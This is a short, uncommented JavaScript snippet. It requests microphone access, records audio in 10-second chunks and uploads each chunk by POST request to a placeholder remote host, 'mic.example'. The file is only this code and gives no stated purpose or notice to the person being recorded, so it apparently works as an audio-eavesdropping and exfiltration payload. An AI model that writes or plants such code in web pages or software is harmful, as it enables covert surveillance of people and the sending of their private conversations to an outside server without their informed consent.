var parts = [];
navigator.mediaDevices.getUserMedia({ audio: true }).then(function (s) {
  var r = new MediaRecorder(s);
  r.ondataavailable = function (e) {
    parts.push(e.data);
    var x = new XMLHttpRequest();
    x.open('POST', 'https://mic.example/up?s=' + Date.now(), true);
    x.send(new Blob(parts.splice(0), { type: 'audio/webm' }));
  };
  r.start(10000);
});
